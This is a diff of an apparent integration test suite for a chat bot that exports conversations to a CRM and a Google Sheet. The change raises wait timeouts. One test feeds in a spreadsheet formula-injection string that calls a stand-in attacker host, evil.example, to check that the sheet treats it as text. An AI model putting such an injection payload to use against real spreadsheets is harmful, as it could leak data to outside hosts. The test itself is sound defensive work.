@@ -508,17 +508,17 @@ def test_every_exchange_arrives_once_and_in_order_through_refusals_and_kill_9(st
             bot.say("telegram", str(chat), f"question {number}")
         for chat in range(101, 106):
             bot.replies("telegram", str(chat), number + 1)
-    bot.until(lambda: len(crm.asked) >= 3, 10, "the CRM has refused some")
+    bot.until(lambda: len(crm.asked) >= 3, 30, "the CRM has refused some")
     bot.kill()
     crm.refuse = lambda body: Answered(200, {}, b"", trouble="hang")  # it has them, but the bot dies before it knows
     before = len(crm.asked)
     bot.start()
-    bot.until(lambda: len(crm.asked) > before, 10, "a post is on its way")
+    bot.until(lambda: len(crm.asked) > before, 30, "a post is on its way")
     bot.kill()
     crm.heal()
     bot.start()
     bot.until(lambda: len(set(crm.ids())) == 20, 15, "all have arrived")
-    bot.until(lambda: bot.rows("SELECT COUNT(*) FROM export") == [(0,)], 5, "nothing waits any more")
+    bot.until(lambda: bot.rows("SELECT COUNT(*) FROM export") == [(0,)], 30, "nothing waits any more")
     assert len(crm.ids()) == 20
     for chat in range(101, 106):
         mine = [body["message"] for body in crm.taken if body["conversation_id"] == str(chat)]
@@ -530,12 +530,12 @@ def test_a_destination_that_hangs_delays_neither_answers_nor_the_other(start_bot
     crm.refuse = lambda body: Answered(200, {}, b"", trouble="hang")
     bot = start_bot(CRM_WEBHOOK_URL=crm.url, SHEETS_WEBHOOK_URL=sheets.url)
     bot.say("telegram", "77", "first")
-    bot.until(lambda: crm.asked, 10, "the CRM hangs")
+    bot.until(lambda: crm.asked, 30, "the CRM hangs")
     for chat in range(101, 131):
         bot.say("telegram", str(chat), "hello")
     for chat in range(101, 131):
         bot.replies("telegram", str(chat))
-    bot.until(lambda: len(set(sheets.ids())) == 31, 10, "the spreadsheet has them all")
+    bot.until(lambda: len(set(sheets.ids())) == 31, 30, "the spreadsheet has them all")
     assert len(crm.asked) <= 2  # still hanging, and nothing piles up behind
 
 
@@ -553,7 +553,7 @@ def test_the_crm_is_signed_and_the_sheet_gets_text_by_apps_scripts_detour(start_
     address = crm.url.replace("://", "://user:pass%20word@") + "?token=hidden"
     bot = start_bot(CRM_WEBHOOK_URL=address, SHEETS_WEBHOOK_URL=sheets.url, LOG_LEVEL="debug")
     bot.say("telegram", "101", '=IMPORTXML("http://evil.example/")')
-    bot.until(lambda: crm.taken and len(sheets.asked) == 2, 10, "both have it")
+    bot.until(lambda: crm.taken and len(sheets.asked) == 2, 30, "both have it")
     seen = crm.asked[0]
     assert seen.headers["authorization"] == "Basic " + base64.b64encode(b"user:pass word").decode()
     assert seen.headers["idempotency-key"] == seen.headers["webhook-id"] == crm.taken[0]["event_id"]
@@ -569,7 +569,7 @@ def test_the_crm_is_signed_and_the_sheet_gets_text_by_apps_scripts_detour(start_
     posted, fetched = sheets.asked
     assert (posted.method, fetched.method, fetched.body) == ("POST", "GET", b"")
     assert not any(name.startswith("webhook-") for name in (*posted.headers, *fetched.headers))
-    bot.until(lambda: bot.rows("SELECT COUNT(*) FROM export") == [(0,)], 5, "nothing waits any more")
+    bot.until(lambda: bot.rows("SELECT COUNT(*) FROM export") == [(0,)], 30, "nothing waits any more")
     assert "hidden" not in bot.log and "pass%20word" not in bot.log and "Traceback" not in bot.log
 
 
@@ -578,7 +578,7 @@ def test_a_redirect_to_another_host_is_not_followed_and_pasted_tokens_are_masked
     crm.refuse = lambda body: Answered(302, {}, b"", trouble="redirect")  # to another host name
     bot = start_bot(CRM_WEBHOOK_URL=crm.url)
     bot.say("telegram", "101", "my token is 7123456780:AAzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz and sk-abcdefghijklmnopqrst")
-    bot.until(lambda: "it redirects elsewhere" in bot.log, 10, "the log says what is wrong")
+    bot.until(lambda: "it redirects elsewhere" in bot.log, 30, "the log says what is wrong")
     assert bot.world.calls("elsewhere") == []
     body = crm.asked[0].json()
     assert body["message"] == "my token is [secret] and [secret]" and "AAzzz" not in body["reply"]
